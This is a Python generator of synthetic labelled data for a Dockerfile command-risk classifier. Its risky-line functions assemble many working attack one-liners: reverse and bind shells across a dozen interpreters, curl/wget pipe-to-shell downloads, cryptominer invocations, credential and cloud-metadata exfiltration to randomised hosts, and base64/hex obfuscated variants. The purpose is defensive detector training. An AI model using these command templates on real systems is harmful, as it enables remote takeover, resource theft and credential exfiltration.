"""Seeded generators for cmd-risk training data.

- `benign_lines(rng, n)`: realistic Dockerfile RUN/CMD/ENTRYPOINT/HEALTHCHECK sub-commands in the style of
  official images (package installs, users, permissions, config edits, verified downloads, builds,
  "benign-but-risky" vendor installers such as get.docker.com / sh.rustup.rs, which are labelled benign).
- `risky_lines(rng, category, n)`: risky variants per category with varied IPs, ports, hosts, interpreters,
  encodings, spacing, quoting and variables.

Every template belongs to a numbered family (recorded with each row). The validation split is a CRC-32 slice of
the generated rows (train.py): an earlier version held out whole families, which removed whole concepts (e.g.
benign `base64 -d` into a file) from training and pushed thresholds to their ceiling.
Nothing here is copied from the held-out sources; hosts, IPs and wallets are made up.
"""
import base64
import random

# ---------------------------------------------------------------------------------------------- helpers
TLDS = ["xyz", "top", "ru", "cn", "tk", "pw", "cc", "su", "info", "online", "site", "club", "icu", "biz"]
SYL = ["ka", "zu", "mo", "ri", "tex", "vor", "lin", "dax", "qui", "pel", "nor", "sab", "fi", "gro", "wex", "ul",
       "ban", "cro", "dri", "hel", "jom", "kel", "mar", "ost", "pra", "sel", "tor", "vin", "yar", "zed"]
WORDS = ["update", "cdn", "static", "files", "dl", "img", "api", "sys", "core", "node", "kube", "cloud", "data",
         "sync", "mirror", "repo", "pkg", "x", "lib", "bin", "main", "service", "check", "health", "metrics"]


def ip(r: random.Random) -> str:
    k = r.random()
    if k < 0.15:
        return "10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))
    if k < 0.25:
        return "192.168.%d.%d" % (r.randint(0, 255), r.randint(1, 254))
    if k < 0.3:
        return "172.%d.%d.%d" % (r.randint(16, 31), r.randint(0, 255), r.randint(1, 254))
    a = r.choice([5, 23, 31, 37, 45, 46, 51, 62, 77, 78, 79, 80, 81, 85, 89, 91, 93, 95, 103, 104, 107, 109, 112,
                  116, 119, 121, 123, 124, 134, 139, 141, 144, 146, 154, 157, 159, 162, 165, 167, 170, 176, 178,
                  179, 185, 188, 193, 194, 195, 198, 199, 202, 203, 209, 212, 213, 217])
    return "%d.%d.%d.%d" % (a, r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))


def port(r):
    return str(r.choice([4444, 4242, 1337, 31337, 8080, 8443, 9001, 443, 80, 53, 5555, 6666, 7777, 9999, 1234,
                         2222, 8888, 3000, 6001, 12345, r.randint(1024, 65535), r.randint(1024, 65535)]))


def domain(r):
    k = r.random()
    name = "".join(r.choice(SYL) for _ in range(r.randint(2, 3)))
    if k < 0.45:
        return name + "." + r.choice(TLDS)
    if k < 0.6:
        return r.choice(WORDS) + "." + name + "." + r.choice(TLDS + ["com", "net", "org"])
    if k < 0.7:
        return name + r.choice([".duckdns.org", ".ngrok.io", ".ddns.net", ".no-ip.org", ".serveo.net",
                                ".trycloudflare.com", ".hopto.org"])
    if k < 0.8:
        return "%d-%d-%d-%d.%s" % (r.randint(1, 250), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254),
                                   r.choice(["nip.io", "sslip.io"]))
    return name + "." + r.choice(["com", "net", "org", "io"])


def host(r):
    return ip(r) if r.random() < 0.55 else domain(r)


def hidden_path(r):
    d = r.choice(["/tmp", "/var/tmp", "/dev/shm", "/tmp/.X11-unix", "/usr/local/bin", "/root", "/opt", "/run",
                  "/var/lib", "/etc", "$HOME", "/usr/bin", "/tmp/.ICE-unix", "/var/run"])
    n = r.choice([".x", ".cache", ".sys", "kworker", ".kdevtmpfs", "dbus-daemon", ".update", "sshd", ".s",
                  "kthreadd", ".systemd-private", "networkd", "x86_64", ".bash", "crond", "agetty", ".ld", "syslogd",
                  "a", "bot", "xm", "." + "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(2, 6)))])
    return d + "/" + n


def script_name(r):
    return r.choice(["x.sh", "i.sh", "init.sh", "setup.sh", "s.sh", "a", "b", "install.sh", "ldr.sh", "run",
                     "update.sh", "pay.sh", "k.sh", "c.sh", "go.sh", "sys.sh", "1.sh", "mine.sh", "bot", "x86",
                     "x86_64", "arm7", "kinsing", "kdevtmpfsi", "p.py", "z.pl", "w.php"])


def url(r, scheme=None, path=None):
    s = scheme or r.choice(["http", "http", "https"])
    h = host(r)
    if r.random() < 0.3 and h[0].isdigit():
        h += ":" + str(r.choice([80, 8000, 8080, 8081, 443, 9000, 5000, r.randint(1024, 65535)]))
    p = path or "/" + r.choice(["", "bins/", "x/", "d/", "s/", "files/", "static/", "up/", ".x/"]) + script_name(r)
    k = r.random()
    if k < 0.08:
        return "https://pastebin.com/raw/" + "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz0123456789") for _ in range(8))
    if k < 0.14:
        return "https://transfer.sh/" + "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(6)) + "/" + script_name(r)
    if k < 0.22:
        user = "".join(r.choice(SYL) for _ in range(2)) + str(r.randint(0, 99))
        return "https://raw.githubusercontent.com/%s/%s/main/%s" % (user, r.choice(["tools", "x", "scripts", "bin", "a", "cfg"]), script_name(r))
    if k < 0.26:
        return "https://gist.githubusercontent.com/%s/%s/raw/%s" % (
            "".join(r.choice(SYL) for _ in range(2)), "".join(r.choice("0123456789abcdef") for _ in range(20)), script_name(r))
    return s + "://" + h + p


def rand_b64(r, payload: str) -> str:
    return base64.b64encode(payload.encode()).decode()


def shell(r):
    return r.choice(["sh", "bash", "/bin/sh", "/bin/bash", "bash", "sh", "/usr/bin/bash", "dash", "zsh", "ash"])


def sp(r):
    return r.choice([" ", " ", " ", "  ", ""])


def q(r, s):
    k = r.random()
    if k < 0.5:
        return s
    if k < 0.8:
        return '"' + s + '"'
    return "'" + s + "'"


def maybe_sudo(r):
    return "sudo " if r.random() < 0.12 else ""


def maybe_nohup(r, s):
    k = r.random()
    if k < 0.15:
        return "nohup " + s + " >/dev/null 2>&1 &"
    if k < 0.22:
        return s + " &"
    if k < 0.27:
        return "setsid " + s
    return s


# ----------------------------------------------------------------------------------- risky generators
def rev_shell(r):
    """-> (family, text)"""
    h, p = host(r), port(r)
    hi = ip(r)
    fam = r.randrange(30)
    sh = shell(r)
    if fam == 0:
        t = "%s -i >& /dev/tcp/%s/%s 0>&1" % (sh, hi, p)
    elif fam == 1:
        t = "%s -c '%s -i >& /dev/tcp/%s/%s 0>&1'" % (r.choice(["bash", "/bin/bash"]), r.choice(["bash", "sh"]), hi, p)
    elif fam == 2:
        t = "exec %d<>/dev/tcp/%s/%s" % (r.randint(3, 250), hi, p)
        if r.random() < 0.5:
            fd = r.randint(3, 250)
            t = "exec %d<>/dev/tcp/%s/%s;cat <&%d | while read line; do $line 2>&%d >&%d; done" % (fd, hi, p, fd, fd, fd)
    elif fam == 3:
        t = "%s -l > /dev/tcp/%s/%s 0<&1 2>&1" % (sh, hi, p)
    elif fam == 4:
        t = "%s %s %s -e %s" % (r.choice(["nc", "ncat", "netcat", "busybox nc", "/usr/bin/nc", "nc.traditional"]),
                                h, p, r.choice(["/bin/sh", "/bin/bash", "sh", "bash"]))
    elif fam == 5:
        t = "%s -e %s %s %s" % (r.choice(["nc", "ncat", "netcat", "nc.traditional"]), r.choice(["/bin/sh", "/bin/bash"]), h, p)
    elif fam == 6:
        f = r.choice(["/tmp/f", "/tmp/p", "/tmp/.f", "/dev/shm/f", "/tmp/backpipe"])
        t = "mkfifo %s;cat %s|%s -i 2>&1|nc %s %s >%s" % (f, f, sh, h, p, f)
        if r.random() < 0.5:
            t = "cat %s | %s -i 2>&1 | nc %s %s > %s" % (f, sh, h, p, f)
    elif fam == 7:
        py = r.choice(["python", "python3", "python2", "python3.11", "/usr/bin/python3"])
        s = r.choice(["s", "so", "k", "c"])
        t = ("%s -c 'import socket,subprocess,os;%s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);%s.connect((\"%s\",%s));"
             "os.dup2(%s.fileno(),0); os.dup2(%s.fileno(),1);os.dup2(%s.fileno(),2);import pty; pty.spawn(\"%s\")'"
             % (py, s, s, h, p, s, s, s, r.choice(["/bin/sh", "/bin/bash", "sh"])))
    elif fam == 8:
        py = r.choice(["python", "python3"])
        t = ("%s -c 'import socket,subprocess;s=socket.socket();s.connect((\"%s\",%s));subprocess.call([\"%s\",\"-i\"],"
             "stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'" % (py, h, p, r.choice(["/bin/sh", "/bin/bash"])))
    elif fam == 9:
        t = ("perl -e 'use Socket;$i=\"%s\";$p=%s;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
             "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"%s -i\");};'"
             % (h, p, r.choice(["/bin/sh", "/bin/bash"])))
    elif fam == 10:
        fn = r.choice(["exec", "system", "shell_exec", "passthru"])
        t = "php -r '$s=fsockopen(\"%s\",%s);%s(\"%s -i <&3 >&3 2>&3\");'" % (h, p, fn, r.choice(["/bin/sh", "/bin/bash"]))
    elif fam == 11:
        t = "ruby -rsocket -e'f=TCPSocket.open(\"%s\",%s).to_i;exec sprintf(\"/bin/sh -i <&%%d >&%%d 2>&%%d\",f,f,f)'" % (h, p)
    elif fam == 12:
        t = ("awk 'BEGIN {s = \"/inet/tcp/0/%s/%s\"; while(1) { do { s |& getline c; if (c) { while ((c |& getline) > 0) "
             "print $0 |& s; close(c) } } while (c != \"exit\"); close(s) }}' /dev/null" % (hi, p))
    elif fam == 13:
        t = "lua -e \"local s=require('socket');local t=s.tcp();t:connect('%s','%s');os.execute('/bin/sh -i <&3 >&3 2>&3')\"" % (h, p)
    elif fam == 14:
        t = ("node -e 'var n=require(\"net\"),c=require(\"child_process\"),s=c.spawn(\"/bin/sh\",[]);var k=new n.Socket();"
             "k.connect(%s,\"%s\",function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})'" % (p, h))
    elif fam == 15:
        t = "socat tcp-connect:%s:%s exec:%s,pty,stderr,setsid,sigint,sane" % (h, p, r.choice(["/bin/sh", "'bash -li'", "bash"]))
    elif fam == 16:
        t = "telnet %s %s | %s | telnet %s %s" % (h, p, r.choice(["/bin/sh", "/bin/bash", "sh"]), h, int(p) + 1)
    elif fam == 17:
        t = "%s -i 2>&1 | openssl s_client -quiet -connect %s:%s > /tmp/s" % (r.choice(["/bin/sh", "/bin/bash"]), h, p)
    elif fam == 18:
        t = "%s -lvnp %s -e %s" % (r.choice(["nc", "ncat", "netcat"]), p, r.choice(["/bin/sh", "/bin/bash"]))
    elif fam == 19:
        t = "socat TCP-LISTEN:%s,reuseaddr,fork EXEC:%s,pty,stderr" % (p, r.choice(["/bin/sh", "/bin/bash"]))
    elif fam == 20:
        t = ("python3 -c 'import socket,os,pty;s=socket.socket();s.bind((\"0.0.0.0\",%s));s.listen(1);c,a=s.accept();"
             "[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" % p)
    elif fam == 21:
        t = "%s -c \"exec %s -i &>/dev/tcp/%s/%s <&1\"" % (r.choice(["sh", "bash"]), r.choice(["bash", "sh"]), hi, p)
    else:
        fam, t = rev_shell_more(r)
    return fam, maybe_nohup(r, t) if r.random() < 0.3 else t


def ident(r):
    """a short identifier as people name sockets and handles in one-liners"""
    return r.choice(["s", "c", "p", "sock", "conn", "k", "x", "S", "f", "fd", "cl", "t", "i", "sk"]) + r.choice(["", "", "", "1", "_", "0"])


def rev_shell_more(r):
    """Further reverse/bind-shell families, one per interpreter or shell feature that GTFOBins lists with a
    reverse-shell or bind-shell function and per shell-redirection idiom of the standard cheat sheets
    (pentestmonkey, revshells.com): each varies names, hosts, ports, shells and spacing."""
    h, p, hi = host(r), port(r), ip(r)
    sh = r.choice(["/bin/sh", "/bin/bash", "sh", "bash", "/bin/zsh", "/bin/ash"])
    v = ident(r)
    fam = 100 + r.randrange(26)
    if fam == 100:
        t = ("perl -MIO -e '$p=fork;exit,if($p);$%s=new IO::Socket::INET(PeerAddr,\"%s:%s\");STDIN->fdopen($%s,r);$~->fdopen($%s,w);system$_ while<>;'"
             % (v, h, p, v, v))
    elif fam == 101:
        t = ("perl -e 'use IO::Socket::INET;$%s=IO::Socket::INET->new(PeerAddr=>\"%s\",PeerPort=>%s,Proto=>\"tcp\");"
             "open(STDIN,\">&\",$%s);open(STDOUT,\">&\",$%s);open(STDERR,\">&\",$%s);exec(\"%s\")'" % (v, h, p, v, v, v, sh))
    elif fam == 102:
        t = "ruby -rsocket -e 'exit if fork;%s=TCPSocket.new(\"%s\",\"%s\");while(cmd=%s.gets);IO.popen(cmd,\"r\"){|io|%s.print io.read}end'" % (v, h, p, v, v)
    elif fam == 103:
        t = "php -r '$%s=fsockopen(\"%s\",%s);$proc=proc_open(\"%s\", array(0=>$%s, 1=>$%s, 2=>$%s),$pipes);'" % (v, h, p, sh, v, v, v)
    elif fam == 104:
        t = "php -r '$%s=fsockopen(\"%s\",%s);`%s <&3 >&3 2>&3`;'" % (v, h, p, sh)
    elif fam == 105:
        t = "zsh -c 'zmodload zsh/net/tcp && ztcp %s %s && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'" % (h, p)
    elif fam == 106:
        fd = r.randint(3, 255)
        t = "0<&%d;exec %d<>/dev/tcp/%s/%s; %s <&%d >&%d 2>&%d" % (fd, fd, hi, p, sh, fd, fd, fd)
    elif fam == 107:
        fd = r.randint(3, 9)
        t = "%s -i %d<> /dev/tcp/%s/%s 0<&%d 1>&%d 2>&%d" % (sh, fd, hi, p, fd, fd, fd)
    elif fam == 108:
        f = r.choice(["/tmp/f", "/tmp/x", "/tmp/.p", "/dev/shm/p"])
        t = "rm %s;mkfifo %s;cat %s|%s -i 2>&1|%s %s %s >%s" % (f, f, f, sh, r.choice(["nc", "ncat", "busybox nc", "nc.openbsd"]), h, p, f)
    elif fam == 109:
        t = "%s %s %s -c %s" % (r.choice(["nc", "ncat", "netcat"]), h, p, sh)
    elif fam == 110:
        t = "ncat --ssl %s %s -e %s" % (h, p, sh) if r.random() < 0.5 else "ncat %s %s --sh-exec '%s'" % (h, p, sh)
    elif fam == 111:
        t = "busybox nc %s %s -e %s" % (h, p, sh)
    elif fam == 112:
        t = "mknod %s p && telnet %s %s 0<%s | %s 1>%s" % ((r.choice(["/tmp/p", "/tmp/backpipe", "backpipe"]),) + (h, p) + (r.choice(["/tmp/p"]),) + (sh, "/tmp/p"))
    elif fam == 113:
        t = ("%s -c 'import os,pty,socket;%s=socket.socket();%s.connect((\"%s\",%s));[os.dup2(%s.fileno(),f)for f in(0,1,2)];pty.spawn(\"%s\")'"
             % (r.choice(["python3", "python", "python2"]), v, v, h, p, v, sh))
    elif fam == 114:
        t = ("export RHOST=\"%s\";export RPORT=%s;%s -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));"
             "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"%s\")'" % (h, p, r.choice(["python3", "python"]), sh))
    elif fam == 115:
        t = "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('%s','%s');os.execute('%s -i <&3 >&3 2>&3');\"" % (h, p, sh)
    elif fam == 116:
        t = ("node -e '(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"%s\",[]);var %s=new net.Socket();"
             "%s.connect(%s,\"%s\",function(){%s.pipe(sh.stdin);sh.stdout.pipe(%s);sh.stderr.pipe(%s);});return /a/;})();'" % (sh, v, v, p, h, v, v, v))
    elif fam == 117:
        t = "node -e 'require(\"child_process\").exec(\"nc -e %s %s %s\")'" % (sh, h, p)
    elif fam == 118:
        t = ("echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"%s:%s\");cmd:=exec.Command(\"%s\");"
             "cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go" % (h, p, sh))
    elif fam == 119:
        t = "msfvenom -p %s LHOST=%s LPORT=%s -f %s %s %s" % (
            r.choice(["linux/x64/shell_reverse_tcp", "linux/x86/meterpreter/reverse_tcp", "cmd/unix/reverse_bash", "cmd/unix/reverse_python",
                      "linux/x64/meterpreter_reverse_https", "cmd/unix/reverse_netcat", "linux/x86/shell_bind_tcp", "cmd/unix/reverse_perl"]),
            hi, p, r.choice(["elf", "raw", "sh"]), r.choice([">", "-o"]), r.choice(["shell.elf", "/tmp/s", "rev", "x.sh", "payload"]))
    elif fam == 120:
        t = "socat %s exec:'%s -li',pty,stderr,setsid,sigint,sane tcp:%s:%s" % (r.choice(["", "-d -d"]), r.choice(["bash", "sh"]), h, p)
    elif fam == 121:
        t = "openssl s_client -quiet -connect %s:%s | %s 2>&1 | openssl s_client -quiet -connect %s:%s" % (h, p, sh, h, int(p) + 1)
    elif fam == 122:
        t = "awk 'BEGIN{s=\"/inet/tcp/0/%s/%s\";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}'" % (hi, p)
    elif fam == 123:
        t = "xterm -display %s:1" % hi
    elif fam == 124:
        t = "%s -lvp %s -e %s" % (r.choice(["nc", "ncat", "busybox nc"]), p, sh) if r.random() < 0.5 else \
            "%s -c 'import pty,os,socket;%s=socket.socket();%s.bind((\"\",%s));%s.listen(1);(c,a)=%s.accept();[os.dup2(c.fileno(),f)for f in(0,1,2)];pty.spawn(\"%s\")'" % (
                r.choice(["python3", "python"]), v, v, p, v, v, sh)
    else:
        t = "%s -c '%s -i >& /dev/%s/%s/%s 0>&1'" % (r.choice(["bash", "/bin/bash"]), r.choice(["bash", "sh"]), r.choice(["tcp", "udp"]), h, p)
    return fam, t


def rce(r):
    u = url(r)
    sh = shell(r)
    fam = r.randrange(18)
    if fam == 0:
        t = "curl %s%s | %s%s" % (r.choice(["-fsSL ", "-s ", "-sL ", "-k ", "-fsSLk ", ""]), u, maybe_sudo(r), sh)
    elif fam == 1:
        t = "wget %s%s -O- | %s" % (r.choice(["-q ", "-qO- ", "--no-check-certificate -q ", ""]), u, sh)
        t = t.replace("-qO-  -O-", "-qO-")
    elif fam == 2:
        t = "wget -O - %s | %s%s" % (u, maybe_sudo(r), sh)
    elif fam == 3:
        t = "%s -c \"$(curl -fsSL %s)\"" % (r.choice(["sh", "bash"]), u)
    elif fam == 4:
        t = "%s <(curl -s %s)" % (r.choice(["bash", "source", "."]), u)
    elif fam == 5:
        t = "curl -s %s | %s -" % (u, r.choice(["python", "python3", "perl", "ruby", "php", "node"]))
    elif fam == 6:
        p = hidden_path(r)
        t = "%s %s -O %s; chmod +x %s; %s" % (r.choice(["wget -q", "wget", "busybox wget"]), u, p, p, p)
    elif fam == 7:
        p = hidden_path(r)
        t = "curl -o %s %s && chmod 777 %s && %s" % (p, u, p, maybe_nohup(r, p))
    elif fam == 8:
        t = "python3 -c \"import urllib.request;exec(urllib.request.urlopen('%s').read())\"" % u
    elif fam == 9:
        t = "php -r 'eval(file_get_contents(\"%s\"));'" % u
    elif fam == 10:
        t = "eval \"$(curl -fsSL %s)\"" % u
    elif fam == 11:
        t = "(curl -fsSL %s||wget -q -O- %s)|%s" % (u, u, sh)
    elif fam == 12:
        t = "curl -sk %s | %s%s -s -- %s" % (u, maybe_sudo(r), r.choice(["bash", "sh"]), r.choice(["--silent", "-x", "install", "", "$HOSTNAME"]))
    elif fam == 13:
        t = "busybox wget -q %s -O- | sh" % u
    elif fam == 14:
        t = "perl -e \"$(wget -qO- %s)\"" % u
    elif fam == 15:
        p = hidden_path(r)
        t = "tftp -g -r %s -l %s %s; chmod +x %s; %s" % (script_name(r), p, ip(r), p, p)
    elif fam == 16:
        t = "curl %s -o- | %s%s" % (u, sp(r), sh)
    else:
        t = "wget -qO- %s|%s" % (u, sh)
    return fam, t.replace("  ", " ") if r.random() < 0.7 else t


WALLET_CH = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
POOLS = ["pool.supportxmr.com", "xmr.pool.minergate.com", "pool.minexmr.com", "gulf.moneroocean.stream",
         "xmr-eu1.nanopool.org", "xmr.2miners.com", "pool.hashvault.pro", "rx.unmineable.com", "xmr.c3pool.com",
         "monero.herominers.com", "stratum.f2pool.com", "xmr.f2pool.com", "eth.2miners.com", "rvn.2miners.com",
         "pool.xmr.pt", "donate.v2.xmrig.com", "auto.c3pool.org", "randomxmonero.auto.nicehash.com"]


def wallet(r):
    if r.random() < 0.7:
        return "4" + r.choice("3456789AB") + "".join(r.choice(WALLET_CH) for _ in range(93))
    return "0x" + "".join(r.choice("0123456789abcdef") for _ in range(40))


def pool(r):
    k = r.random()
    h = r.choice(POOLS) if k < 0.8 else (ip(r) if k < 0.9 else domain(r))
    return "%s:%d" % (h, r.choice([3333, 4444, 5555, 7777, 10128, 14444, 443, 80, 10001, 9000, 2222, 13333]))


def mining(r):
    fam = r.randrange(15)
    miner = r.choice(["./xmrig", "xmrig", "/usr/local/bin/xmrig", "./" + r.choice(["kdevtmpfsi", "kswapd0", "sysupdate", "networkservice", ".x", "dbused", "kworker"]),
                      hidden_path(r)])
    w = wallet(r)
    pl = pool(r)
    extra = r.sample(["--donate-level 1", "-k", "--tls", "--cpu-max-threads-hint=75", "-B", "--background", "--threads=%d" % r.randint(1, 16),
                      "-a rx/0", "--rig-id " + r.choice(["w1", "docker", "$(hostname)", "k8s"]), "--randomx-1gb-pages", "--max-cpu-usage=80",
                      "--nicehash", "--coin monero", "-p x", "--pass=x"], r.randint(0, 4))
    if fam == 0:
        t = "%s -o %s -u %s %s" % (miner, pl, w, " ".join(extra))
    elif fam == 1:
        t = "%s --url=stratum+tcp://%s --user=%s --pass=x %s" % (miner, pl, w, " ".join(extra))
    elif fam == 2:
        t = "%s -a %s -o stratum+tcp://%s -u %s -p x" % (r.choice(["./minerd", "minerd", "cpuminer", "./cpuminer-multi", "cpuminer-opt"]),
                                                   r.choice(["cryptonight", "yescrypt", "scrypt", "sha256d", "rx/0", "lyra2z"]), pl, w)
    elif fam == 3:
        t = "wget %s/xmrig-%d.%d.%d-linux-static-x64.tar.gz" % (
            r.choice(["https://github.com/xmrig/xmrig/releases/download/v6.%d.%d" % (r.randint(10, 22), r.randint(0, 3)), "http://" + host(r)]),
            6, r.randint(10, 22), r.randint(0, 3))
    elif fam == 4:
        t = "%s %s -c %s" % (maybe_nohup(r, miner), "", r.choice(["config.json", "/tmp/.c.json", "/etc/xmr.json", "$HOME/.cfg"]))
        t = "nohup %s -c %s >/dev/null 2>&1 &" % (miner, r.choice(["config.json", "/tmp/.c.json", "/etc/xmr.json"]))
    elif fam == 5:
        t = "echo '{\"pools\":[{\"url\":\"%s\",\"user\":\"%s\",\"pass\":\"x\",\"tls\":%s}]}' > %s" % (
            pl, w, r.choice(["true", "false"]), r.choice(["config.json", "/tmp/.c.json", "/root/.xmrig.json"]))
    elif fam == 6:
        t = "sed -i 's/\"url\": *\"[^\"]*\"/\"url\": \"%s\"/' config.json" % pl
    elif fam == 7:
        t = "%s -P stratum1+tcp://%s.%s@%s" % (r.choice(["ethminer", "./ethminer", "./t-rex", "./nbminer", "./lolMiner", "./PhoenixMiner"]), w, r.choice(["rig1", "w", "gpu"]), pl)
    elif fam == 8:
        t = "%s --algo %s --server %s --user %s" % (r.choice(["./lolMiner", "lolminer", "./gminer", "./SRBMiner-MULTI"]),
                                                  r.choice(["ETHASH", "KAWPOW", "randomx", "AUTOLYKOS2"]), pl.split(":")[0], w)
    elif fam == 9:
        t = "curl -sL %s | tar xz -C %s && %s/xmrig -o %s -u %s" % (url(r, path="/xmrig.tar.gz"), "/tmp", "/tmp", pl, w)
    elif fam == 10:
        t = "%s --coin=XMR -o %s -u %s.%s -p x -t %d" % (miner, pl, w, r.choice(["docker", "w1", "$(hostname)"]), r.randint(1, 8))
    elif fam == 11:
        t = "docker run -d --restart=always %s -o %s -u %s" % (r.choice(["metal3d/xmrig", "minerboy/xmrig", "bitnn/alpine-xmrig", "xmrig/xmrig"]), pl, w)
    elif fam == 12:
        t = "chmod +x %s && %s" % (miner, maybe_nohup(r, "%s -o %s -u %s -k --donate-level=1" % (miner, pl, w)))
    elif fam == 13:
        t = "echo 'vm.nr_hugepages=1280' >> /etc/sysctl.conf && %s --randomx-1gb-pages -o %s -u %s" % (miner, pl, w)
    else:
        t = "%s -o stratum+ssl://%s -u %s -p x --cpu-priority=%d" % (miner, pl, w, r.randint(0, 5))
    return fam, t


def exfil_target(r):
    h = ip(r) if r.random() < 0.75 else domain(r)
    k = r.random()
    if k < 0.6:
        return "http://%s%s/%s" % (h, ":" + port(r) if r.random() < 0.5 else "", r.choice(["u", "up", "c", "log", "x", "data", "k", ""]))
    if k < 0.8:
        return "https://%s/%s" % (h, r.choice(["api/collect", "upload", "p", "k.php", "in"]))
    return "https://webhook.site/" + "-".join("".join(r.choice("0123456789abcdef") for _ in range(n)) for n in (8, 4, 4, 4, 12))


CRED_FILES = ["~/.aws/credentials", "/root/.aws/credentials", "$HOME/.aws/credentials", "/root/.ssh/id_rsa", "~/.ssh/id_ed25519",
              "/home/*/.ssh/id_rsa", "/etc/shadow", "~/.docker/config.json", "/root/.docker/config.json", "~/.kube/config",
              "/root/.kube/config", "/var/run/secrets/kubernetes.io/serviceaccount/token", "~/.git-credentials", "~/.netrc",
              "/root/.npmrc", "~/.pgpass", "/etc/kubernetes/admin.conf", "~/.config/gcloud/credentials.db",
              "/root/.azure/accessTokens.json", "~/.bash_history", "/etc/passwd /etc/shadow"]


def cred(r):
    f = r.choice(CRED_FILES)
    tgt = exfil_target(r)
    fam = r.randrange(18)
    if fam == 0:
        t = "cat %s | curl -X POST --data-binary @- %s" % (f, tgt)
    elif fam == 1:
        t = "curl -F \"f=@%s\" %s" % (f.split()[0], tgt)
    elif fam == 2:
        t = "tar czf - %s | nc %s %s" % (r.choice(["/root/.ssh", "~/.aws", "/root/.kube", "/home/*/.ssh", "/etc/ssl/private"]), ip(r), port(r))
    elif fam == 3:
        t = "%scat %s" % (maybe_sudo(r), r.choice(["/etc/shadow", "/root/.aws/credentials", "~/.aws/credentials", "/root/.ssh/id_rsa",
                                                 "/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/1/environ"]))
    elif fam == 4:
        t = "find / -name %s 2>/dev/null %s" % (r.choice(["id_rsa", "\"*.pem\"", "\"*.key\"", "credentials", ".env", "\"*.kdbx\"", "wallet.dat"]),
                                                r.choice(["", "| xargs cat", "-exec cp {} /tmp/.k \\;", "| xargs tar czf /tmp/.k.tgz"]))
    elif fam == 5:
        t = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/%s" % r.choice(["", "$ROLE", "$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)"])
    elif fam == 6:
        t = "curl -s -H \"Metadata-Flavor: Google\" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
    elif fam == 7:
        t = "env | grep -iE '%s' | curl -d @- %s" % (r.choice(["key|secret|token|pass", "aws|token", "secret", "pass"]), tgt)
    elif fam == 8:
        t = "printenv | nc %s %s" % (ip(r), port(r))
    elif fam == 9:
        t = "wget --post-file=%s %s" % (f.split()[0], tgt)
    elif fam == 10:
        t = "grep -riE '%s' %s 2>/dev/null" % (r.choice(["password|passwd|secret", "aws_secret_access_key", "BEGIN RSA PRIVATE KEY", "api[_-]?key"]),
                                               r.choice(["/", "/home", "/etc", "/var/www", "/opt", "/root"]))
    elif fam == 11:
        t = "unshadow /etc/passwd /etc/shadow > %s" % hidden_path(r)
    elif fam == 12:
        t = "kubectl get secrets %s -o %s" % (r.choice(["-A", "--all-namespaces", "-n kube-system", ""]), r.choice(["yaml", "json"]))
    elif fam == 13:
        t = "cat %s | base64 -w0 | curl -d @- %s" % (f, tgt)
    elif fam == 14:
        t = "strings /proc/%s/mem | grep -i pass" % r.choice(["$(pgrep sshd)", "$PID", "1", "$(pidof gnome-keyring-daemon)"])
    elif fam == 15:
        t = "curl -s --upload-file %s %s" % (f.split()[0], tgt)
    elif fam == 16:
        t = "scp -o StrictHostKeyChecking=no %s %s@%s:/tmp/" % (f.split()[0], r.choice(["root", "u", "x", "backup"]), ip(r))
    else:
        t = "aws sts get-caller-identity && cat ~/.aws/credentials | nc %s %s" % (ip(r), port(r))
    return fam, t


def _payload(r):
    """a short risky command to be encoded"""
    k = r.random()
    if k < 0.35:
        return rev_shell(r)[1]
    if k < 0.7:
        return rce(r)[1]
    if k < 0.85:
        return mining(r)[1]
    return cred(r)[1]


def obf(r):
    pl = _payload(r)
    b = rand_b64(r, pl)
    sh = shell(r)
    fam = r.randrange(18)
    if fam == 0:
        t = "echo %s | base64 -d | %s" % (q(r, b), sh)
    elif fam == 1:
        t = "echo %s|base64 --decode|%s" % (b, sh)
    elif fam == 2:
        t = "%s -c \"$(echo %s | base64 -d)\"" % (r.choice(["bash", "sh"]), b)
    elif fam == 3:
        t = "base64 -d <<< %s | %s" % (b, sh)
    elif fam == 4:
        t = "echo %s | xxd -r -p | %s" % (pl.encode().hex(), sh)
    elif fam == 5:
        t = "printf '%s' | %s" % ("".join("\\x%02x" % c for c in pl.encode()[:90]), sh)
    elif fam == 6:
        t = "echo %s | rev | %s" % (q(r, pl[::-1]), sh)
    elif fam == 7:
        import gzip
        gz = base64.b64encode(gzip.compress(pl.encode(), mtime=0)).decode()
        t = "echo %s | base64 -d | gunzip | %s" % (gz, sh)
    elif fam == 8:
        t = "python3 -c \"exec(__import__('base64').b64decode('%s'))\"" % rand_b64(r, "import os;os.system('%s')" % pl.replace("'", ""))
    elif fam == 9:
        t = "perl -e 'eval(pack(\"H*\",\"%s\"))'" % ("system(q{" + pl + "})").encode().hex()
    elif fam == 10:
        t = "eval \"$(echo %s | base64 -d)\"" % b
